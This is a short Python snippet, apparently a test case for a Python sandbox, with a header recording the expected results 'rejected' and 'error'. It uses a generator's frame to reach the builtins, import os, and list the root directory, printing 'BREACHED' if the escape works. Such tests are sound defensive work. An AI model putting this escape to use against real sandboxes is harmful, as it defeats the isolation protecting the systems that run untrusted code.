# fence: rejected | walls: error
frame = (1 for _ in ()).gi_frame
os = frame.f_builtins["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
